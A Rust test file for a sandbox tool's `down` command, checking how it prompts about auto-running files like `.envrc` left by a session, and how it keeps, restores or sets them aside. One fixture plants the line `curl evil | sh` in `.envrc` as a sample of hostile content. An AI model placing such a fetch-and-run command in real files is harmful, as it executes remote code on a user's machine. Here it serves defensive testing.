//! What acts by itself on the host and changed in a session, without an engine: `down` asks, and what was not decided is
//! decided by nothing but an answer.

use crate::fake_engine::{empty, ready};
use crate::support::docker::FakeDocker;
use crate::support::place::Place;
use crate::support::run::Xtask;
use crate::support::terminal::Terminal;
use std::fs;
use std::path::PathBuf;

const QUESTION: &str = "Keep what acts by itself, restore what was there, or set it aside? [K/r/a]";

/// A workspace in which a session has made an `.envrc` that nobody was told of yet, and its state folder.
fn left() -> (Place, PathBuf) {
    let place = ready();
    empty(FakeDocker::new().answer("rm *", 0, "", "")).install(&place);
    let status: serde_json::Value = serde_json::from_str(&status(&place, &["--json"])).expect("JSON");
    let folder = PathBuf::from(status["state_folder"].as_str().expect("a folder"));
    fs::create_dir_all(folder.join("obeyed")).expect("a folder");
    let looked = r#"{"quiet":false,"owed":true,"places":[],"attributes":{},"modules":{},"unresolved":[]}"#;
    fs::write(folder.join("git-state.json"), looked).expect("a file");
    for name in ["by-itself.json", "when-run.json"] {
        fs::write(folder.join("obeyed").join(name), r#"{"schema":1,"files":{}}"#).expect("a file");
    }
    place.write("repo/workspace/.envrc", "curl evil | sh\n");
    (place, folder)
}

fn status(place: &Place, args: &[&str]) -> String {
    Xtask::at(place).args(["status"]).args(args.iter().copied()).run().ok().stdout
}

fn is_named(place: &Place) -> bool {
    status(place, &[]).contains("undecided     `.envrc` is new\n")
}

#[test]
fn what_nobody_could_be_asked_about_is_named_until_somebody_decides() {
    let (place, folder) = left();
    let down = |args: &[&str]| Xtask::at(&place).args(["down"]).args(args.iter().copied()).run().ok().stderr;
    for args in [&[][..], &["--yes"]] {
        let said = down(args);
        assert!(said.contains("is kept, because nobody could be asked, and stays undecided"), "{said}");
        assert!(said.contains("+ curl evil | sh") && said.contains("obeyed before is kept"), "{said}");
        assert!(is_named(&place) && folder.join("obeyed").exists(), "{}", status(&place, &[]));
        let planned = Xtask::at(&place).args(["down", "--dry-run"]).run().ok().stdout;
        assert!(planned.contains("# undecided, asked about then: `.envrc` is new"), "{planned}");
        assert!(status(&place, &[]).contains("`cargo xtask down --on-change keep` (or `restore`, or `aside`) decides"));
    }
    let said = down(&["--on-change", "aside"]);
    assert!(said.contains("`.envrc` is set aside as `.envrc.set-aside-1`"), "{said}");
    assert!(!is_named(&place) && !folder.join("obeyed").exists(), "{}", status(&place, &[]));
}

#[test]
fn where_not_all_was_compared_down_keeps_what_the_next_start_compares_with() {
    let (place, folder) = left();
    for n in 0..4200 {
        fs::create_dir_all(place.path(&format!("repo/workspace/t/{n}"))).expect("a directory");
        place.write(&format!("repo/workspace/t/{n}/.envrc"), "decoy\n");
    }
    place.write("repo/workspace/src/a/b/.vscode/tasks.json", "evil\n");
    let said = Xtask::at(&place).args(["down", "--on-change", "keep"]).run().ok().stderr;
    assert!(said.contains("that lie deepest are not compared") && said.contains("obeyed before is kept"), "{said}");
    assert!(folder.join("obeyed/by-itself.json").exists());
    let planned = Xtask::at(&place).args(["down", "--dry-run"]).run().ok().stdout;
    assert!(!planned.contains("# undecided"), "it is decided: {planned}");
}

#[test]
fn yes_answers_no_question_about_what_acts_by_itself() {
    let (place, _) = left();
    let terminal = Terminal::open(&place, Xtask::at(&place).args(["down", "--yes"]));
    assert_eq!(terminal.ended(60), 0);
    terminal.shows("stays undecided", 1);
    assert!(!terminal.screen().contains("[K/r/a]") && is_named(&place), "{}", terminal.screen());
}

#[test]
fn a_question_that_was_not_answered_is_asked_again() {
    let (place, _) = left();
    let ask = || {
        let terminal = Terminal::open(&place, Xtask::at(&place).args(["down"]));
        terminal.shows(QUESTION, 60);
        terminal
    };
    let terminal = ask();
    terminal.press("C-c");
    assert_eq!(terminal.ended(30), 130);
    assert!(is_named(&place), "Ctrl-C: {}", status(&place, &[]));

    let terminal = ask();
    terminal.press("C-d");
    terminal.shows("is kept, because there was no answer, and stays undecided", 30);
    assert_eq!(terminal.ended(30), 0);
    assert!(is_named(&place), "the end of input: {}", status(&place, &[]));

    let terminal = ask();
    terminal.close();
    assert!(is_named(&place), "the terminal was closed: {}", status(&place, &[]));

    let terminal = ask();
    terminal.types("r");
    terminal.press("Enter");
    terminal.shows("`.envrc` is set aside as", 30);
    assert_eq!(terminal.ended(30), 0);
    assert!(!is_named(&place) && !place.path("repo/workspace/.envrc").exists());
}

#[test]
fn what_was_typed_before_the_question_is_no_answer() {
    let (place, folder) = left();
    let slow = format!("#!/bin/sh\nuntil [ -e '{}' ]; do sleep 0.1; done\n", place.path("go").display());
    place.program("slow", slow);
    let project = format!("codex-sandbox-{}", folder.file_name().expect("a name").display());
    let network = format!("0a\t{project}_default\t{project}\n");
    let docker = FakeDocker::new().answer("network ls *", 0, &network, "");
    empty(docker.runs("network rm *", place.path("bin/slow"))).install(&place);
    let terminal = Terminal::open(&place, Xtask::at(&place).args(["down"]));
    terminal.shows("docker network rm", 60);
    terminal.types("a");
    terminal.press("Enter");
    terminal.types("a");
    terminal.press("Enter");
    place.write("go", "");
    terminal.shows(QUESTION, 60);
    terminal.types("k");
    terminal.press("Enter");
    assert_eq!(terminal.ended(30), 0);
    assert!(place.path("repo/workspace/.envrc").exists() && !is_named(&place), "{}", terminal.screen());
}
